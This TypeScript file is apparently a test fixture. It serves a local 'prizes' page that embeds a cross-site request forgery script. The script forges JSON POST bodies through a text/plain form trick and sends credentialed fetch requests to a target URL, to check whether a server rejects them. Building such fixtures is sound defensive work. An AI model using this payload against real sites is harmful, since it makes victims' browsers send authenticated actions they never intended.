import { createServer } from "node:http";
import type { AddressInfo } from "node:net";

const EVIL_PAGE = `<!doctype html><script>
async function forge(url, text) {
  const frame = document.createElement("iframe");
  frame.name = "frame" + document.forms.length;
  const form = document.createElement("form");
  Object.assign(form, { method: "POST", action: url, enctype: "text/plain", target: frame.name });
  const field = document.createElement("input");
  field.name = text.slice(0, -1) + (text === "{}" ? "" : ",") + '"x":"';
  field.value = '"}';
  form.append(field);
  document.body.append(frame, form);
  const shown = new Promise((resolve) => frame.addEventListener("load", resolve));
  form.submit();
  await shown;
  const options = { method: "POST", credentials: "include", body: text };
  for (const type of ["application/json", "text/plain"])
    await fetch(url, { ...options, headers: { "content-type": type } }).catch(() => {});
  await fetch(url, { ...options, mode: "no-cors" }).catch(() => {});
}
</script><body>prizes</body>`;

export async function serveEvilPage(): Promise<{ readonly url: string; close(): void }> {
  const server = createServer((_, response) => {
    response.setHeader("content-type", "text/html").end(EVIL_PAGE);
  });
  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  return {
    url: `http://prizes.localhost:${(server.address() as AddressInfo).port}`,
    close() {
      server.close();
      server.closeAllConnections();
    },
  };
}
